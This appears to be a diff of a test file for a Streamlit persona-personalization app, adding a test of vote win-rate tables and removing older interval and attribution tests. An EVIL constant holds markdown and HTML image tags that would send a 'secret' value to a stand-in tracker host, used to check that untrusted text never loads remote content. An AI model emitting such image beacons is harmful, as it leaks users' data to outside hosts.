@@ -3,12 +3,14 @@
 import json
 import re
 
+import pytest
 from streamlit.testing.v1 import AppTest
 
 from personalab import NewMemory, PersonaLibrary
-from personalab.attribution import Source, attribute, word_diff
-from personalab.votes import Vote, VoteBook, wilson, win_rates
+from personalab.votes import Vote, VoteBook
 from tests.conftest import ROOT
+
+pytestmark = pytest.mark.slow  # the stage with the real model
 
 PERSONA = "lena-vegan-marathoner"
 EVIL = "![pixel](http://tracker.example/p.png?d=secret) <img src=http://tracker.example/x.png>"
@@ -67,6 +69,23 @@ def test_a_blind_vote_hides_labels_keeps_tallies_and_reveals():
 
     votes = VoteBook(resources.store(resources.base_settings())).all()
     assert len(votes) == 1 and set(votes[0].shown) == {"generic", "personalized"}
+
+
+def test_votes_show_as_win_rates_on_compare_and_evaluate():
+    """Votes kept in the store are shown as win rates, with intervals, on Compare and Evaluate."""
+    from app_pages.ui import resources
+
+    at = start("compare")
+    book = VoteBook(resources.store(resources.base_settings()))
+    for winner in ("personalized", "personalized", "tie"):
+        book.add(Vote(PERSONA, "m", ("generic", "personalized"), winner))
+    for page in ("compare", "evaluate"):
+        at.switch_page(f"app_pages/{page}.py").run()
+        table = next(d.value for d in at.dataframe if "win rate" in d.value.columns)
+        rows = {r["answer"]: r for r in table.to_dict("records")}
+        personal = rows[next(k for k in rows if k.startswith("Personalized"))]
+        assert (personal["wins"], personal["votes"], personal["win rate"]) == (2, 3, "67%")
+        assert personal["95 % interval"] == "21%-94%"
 
 
 def test_presenter_mode_sends_a_prepared_prompt_and_resets_the_demo(monkeypatch):
@@ -132,27 +151,3 @@ def test_untrusted_text_never_loads_anything_on_any_page(isolated_env):
         for text in rendered:  # escaped ("\\![") is shown as text; an image would be "!["
             assert not re.search(r"(?<!\\)<img", text), (page, text)
             assert not re.search(r"(?<!\\)!\[[^\]]*\]\(http", text), (page, text)
-
-
-def test_wilson_interval_and_win_rates():
-    """Win rates per persona, kind and model come with a 95 % Wilson interval."""
-    low, high = wilson(8, 10)
-    assert 0.49 < low < 0.5 and 0.94 < high < 0.95
-    votes = [Vote("p", "m", ("generic", "personalized"), "personalized")] * 3
-    votes += [Vote("p", "m", ("generic", "personalized"), "tie")]
-    rates = {r.kind: r for r in win_rates(votes)}
-    assert rates["personalized"].wins == 3 and rates["personalized"].games == 4
-    assert rates["generic"].wins == 0
-
-
-def test_attribution_and_what_changed(embedder):
-    """A sentence that restates a persona fact is traced to it; the diff marks new words."""
-    sources = [
-        Source("Constraints", "She is strictly vegan and eats no meat."),
-        Source("fact", "I'm training for the Berlin Marathon."),
-    ]
-    found = attribute("Since you're vegan, skip the meat. The weather is nice.", sources, embedder)
-    assert found[0].source is not None and found[0].source.label == "Constraints"
-    assert found[1].source is None
-    assert ("added", "vegan") in word_diff("Eat pasta.", "Eat vegan pasta.")
-    json.dumps([f.to_json() for f in found])
